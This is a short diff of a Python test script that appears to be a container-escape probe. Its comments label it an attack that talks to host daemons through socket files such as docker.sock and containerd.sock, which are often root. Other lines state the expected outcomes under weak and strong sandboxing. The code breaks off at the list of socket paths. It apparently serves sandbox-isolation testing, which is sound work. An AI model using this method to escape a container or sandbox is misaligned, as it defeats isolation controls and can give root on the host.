@@ -1,5 +1,6 @@
 # attack: talk to a daemon of the host through its socket file, which is often root on the host
 # must end: completed
+# below strong: refused at with socket.socket(socket.AF_UNIX, kind) as peer:
 import glob, socket
 paths = ["/var/run/docker.sock", "/run/docker.sock", "/run/containerd/containerd.sock", "/run/podman/podman.sock", "/run/crio/crio.sock",
          "/run/dbus/system_bus_socket", "/run/systemd/private", "/run/systemd/notify", "/run/snapd.socket", "/dev/log",
